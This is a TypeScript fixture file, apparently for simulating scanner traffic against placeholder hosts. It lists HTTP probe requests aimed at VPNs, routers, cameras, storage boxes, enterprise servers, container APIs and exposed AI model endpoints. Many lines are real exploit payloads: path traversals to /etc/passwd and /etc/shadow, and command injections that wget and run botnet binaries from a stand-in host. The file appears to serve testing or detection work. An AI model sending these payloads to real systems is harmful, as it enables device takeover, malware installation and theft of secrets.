import { scan } from '../second/kind.ts';
import { BROWSERS, FAKED, LIBRARIES, SCANNING } from './agents.ts';

const HOSTS = ['203.0.113.71', '198.51.100.23', 'gw.nordkap-reisen.example'];

/** Scanners in search of routers, cameras, appliances of offices, servers of apps, and models. */
export const APPLIANCE_SCANS = [
  scan(
    'VPN appliances',
    { on: HOSTS, agents: [...FAKED, ...BROWSERS], pace: 3, clients: 3 },
    `
    GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
    GET /remote/logincheck
    GET /remote/info
    GET /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/
    GET /dana-na/nc/nc_gina_ver.txt
    GET /api/v1/totp/user-backup-code/../../license/keys-status/%3bid
    GET /global-protect/login.esp
    POST /ssl-vpn/hipreport.esp
    GET /+CSCOE+/logon.html
    GET /+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../
    GET /vpn/../vpns/cfg/smb.conf
    GET /vpns/portal/scripts/newbm.pl
    POST /p/u/doAuthentication.do
    GET /sslvpnLogin.html
    GET /cgi-bin/welcome
    GET /clients/MyCRL
    GET /RDWeb/Pages/en-US/login.aspx
    GET /php/ztp_gate.php/.js.map
    `,
  ),
  scan(
    'routers that run any command',
    { on: HOSTS, agents: ['Hello, World', 'Mozilla/5.0', '', 'r00ts3c-owned-you'], pace: 20 },
    `
    GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60cd+%2Ftmp%3B+rm+-rf+shk%3B+wget+http%3A%2F%2F203.0.113.9%2Fshk%60)
    POST /GponForm/diag_Form?images/
    GET /shell?cd+/tmp;rm+-rf+*;wget+203.0.113.9/jaws;sh+/tmp/jaws
    GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1
    POST /HNAP1/
    POST /boaform/admin/formLogin
    GET /boaform/admin/formLogin?username=ec8&psd=ec8
    POST /cgi-bin/ViewLog.asp
    POST /ctrlt/DeviceUpgrade_1
    POST /UD/act?1
    POST /apply_sec.cgi
    GET /goform/setMacFilterCfg
    GET /cgi-bin/;cd\${IFS}/var/tmp;rm\${IFS}-rf\${IFS}*;\${IFS}wget\${IFS}http://203.0.113.9/r.sh
    GET /board.cgi?cmd=cd+/tmp;wget+http://203.0.113.9/arm7;chmod+777+arm7
    GET /device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=wget
    GET /login.cgi?cli=aa%20aa%27;wget%20http://203.0.113.9/dlink.sh%20-O%20-%3E%20/tmp/kk
    `,
  ),
  scan(
    'cameras and recorders',
    { on: HOSTS, agents: FAKED, pace: 6 },
    `
    PUT /SDK/webLanguage
    GET /Security/users?auth=YWRtaW46MTEK
    GET /onvif-http/snapshot?auth=YWRtaW46MTEK
    GET /ISAPI/Security/userCheck
    GET /doc/page/login.asp
    GET /cgi-bin/nobody/Machine.cgi?action=get_capability
    GET /cgi-bin/guest/Login.cgi
    GET /web/cgi-bin/hi3510/param.cgi?cmd=getuser
    GET /cgi-bin/snapshot.cgi?channel=0
    GET /current_config/passwd
    GET /axis-cgi/mjpg/video.cgi
    GET /cgi-bin/supervisor/Factory.cgi?action=white_led&brightness=$(ping%20-c%201%20203.0.113.9)
    `,
  ),
  scan(
    'storage boxes',
    { on: HOSTS, agents: [...LIBRARIES, ''], pace: 4 },
    `
    GET /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=
    GET /cgi-bin/account_mgr.cgi?cmd=cgi_user_add&name=%27;id;%27
    GET /cgi-bin/kerbynet?Section=NoAuthREQ&Action=x509List&type=*%22;id;%22
    POST /cgi-bin/authLogin.cgi
    GET /cgi-bin/jc.cgi
    GET /webman/info.cgi?host=
    GET /nas/Ping.php
    GET /module/api.php?mobile/wapNasIPS
    POST /photo/p/api/album.php
    GET /share.cgi?ssid=1&fid=1&path=%2F&filename=/etc/shadow
    `,
  ),
  scan(
    'Exchange and SharePoint with holes',
    { on: ['www.lindqvist-bygg.example', '203.0.113.71'], agents: FAKED, pace: 5 },
    `
    GET /autodiscover/autodiscover.json?@zdi/Powershell
    GET /autodiscover/autodiscover.json?a@foo.com/owa/?&Email=autodiscover/autodiscover.json%3Fa@foo.com&Protocol=XYZ&FooProtocol=Powershell
    GET /ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application
    POST /ecp/y.js
    GET /owa/auth/x.js
    GET /aspnet_client/discover.aspx
    GET /aspnet_client/system_web/log.aspx
    POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx
    GET /_layouts/15/spinstall0.aspx
    GET /owa/auth/15.2.1118/themes/resources/favicon.ico
    `,
  ),
  scan(
    'servers of Java apps',
    { on: ['198.51.100.23', 'billing.cartwheel.example'], agents: SCANNING, pace: 0.6 },
    `
    GET /manager/html
    GET /host-manager/html
    GET /jmx-console/
    GET /invoker/readonly
    POST /invoker/JMXInvokerServlet
    GET /web-console/ServerInfo.jsp
    POST /wls-wsat/CoordinatorPortType
    GET /_async/AsyncResponseService
    GET /console/css/%252e%252e%252fconsole.portal
    GET /console/images/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=HomePage1
    GET /solr/admin/info/system?wt=json
    GET /solr/admin/cores?indexInfo=false&wt=json
    GET /druid/index.html
    GET /axis2/services/listServices
    GET /nacos/v1/auth/users?pageNo=1&pageSize=9
    GET /jolokia/list
    PUT /poc.jsp/
    GET /webtools/control/xmlrpc
    GET /geoserver/web/
    POST /developmentserver/metadatauploader
    `,
  ),
  scan(
    'actuators of Spring, from outside',
    { on: ['www.oakridge-cycles.example', 'billing.cartwheel.example'], agents: FAKED, pace: 1 },
    `
    GET /actuator/env
    GET /actuator/heapdump
    GET /actuator/gateway/routes
    GET /actuator/logfile
    GET /actuator;/env
    GET /api/actuator/mappings
    GET /manage/env
    GET /heapdump
    GET /actuator/jolokia/list
    GET /;/actuator/heapdump
    POST /actuator/gateway/routes/hacktest
    GET /actuator/configprops
    GET /env;.js
    `,
  ),
  scan(
    'programs of operations with holes',
    { on: ['forge.plumline.example', '203.0.113.71'], agents: [...FAKED, ...LIBRARIES], pace: 1.5 },
    `
    GET /script
    GET /jenkins/script
    GET /securityRealm/user/admin/search/index?q=a
    GET /app/rest/users;.jsp
    GET /hax?jsp=/app/rest/server;.jsp
    GET /SetupWizard.aspx/foo
    GET /setup/setupadministrator.action
    GET /server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false
    GET /s/431313e2333313e2431323/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties
    GET /public/plugins/alertlist/../../../../../../../../etc/passwd
    GET /zabbix/index.php?request=zabbix.php%3Faction%3Ddashboard.view
    GET /setup-s/%u002e%u002e/%u002e%u002e/log.jsp
    GET /cgi-bin/nagios3/status.cgi
    GET /api/settings/values?keys=sonar.core.id
    POST /human.aspx
    GET /WebInterface/function/?command=getUserList&c2f=1111
    GET /lib/%2e%2e%2f%2e%2e%2fetc/passwd
    `,
  ),
  scan(
    'interfaces of containers and clusters',
    {
      on: HOSTS,
      agents: ['Go-http-client/1.1', 'python-requests/2.25.1', 'Mozilla/5.0 zgrab/0.x'],
      pace: 0.5,
    },
    `
    GET /containers/json
    GET /v1.24/containers/json?all=1
    POST /v1.24/containers/create
    GET /v1.41/images/json
    GET /_ping
    GET /v2/_catalog
    GET /v2/_catalog?n=1000
    GET /api/v1/namespaces/kube-system/secrets
    GET /apis/apps/v1/deployments
    GET /runningpods/
    GET /pods
    POST /exec/default/web/web?cmd=id
    GET /v1/agent/self
    GET /v1/kv/?recurse
    GET /v2/keys/?recursive=true
    GET /ws/v1/cluster/info
    POST /ws/v1/cluster/apps/new-application
    GET /_cat/indices?v
    GET /_search?size=5&pretty
    GET /_all_dbs
    GET /_nodes/_local/os
    GET /portainer/api/status
    `,
  ),
  scan(
    'models that somebody left open',
    {
      on: ['ai.tallyho.example', '198.51.100.23'],
      agents: ['Go-http-client/1.1', 'python-requests/2.31.0'],
      pace: 0.8,
    },
    `
    GET /api/tags
    GET /api/ps
    POST /api/generate
    GET /v1/models
    GET /v1/chat/completions 405
    GET /ollama/api/version
    GET /api/v0/models
    POST /mcp
    GET /sse
    GET /.well-known/mcp.json
    GET /queue/status
    GET /gradio_api/info
    GET /sdapi/v1/sd-models
    GET /system_stats
    GET /object_info
    GET /api/v1/validate/code
    POST /api/v1/validate/code
    GET /api/v1/flows/
    GET /component_server
    GET /file=/etc/passwd
    GET /static/js/../../../../../etc/passwd
    GET /lollms/../../etc/passwd
    GET /n8n/rest/settings
    `,
  ),
] as const;
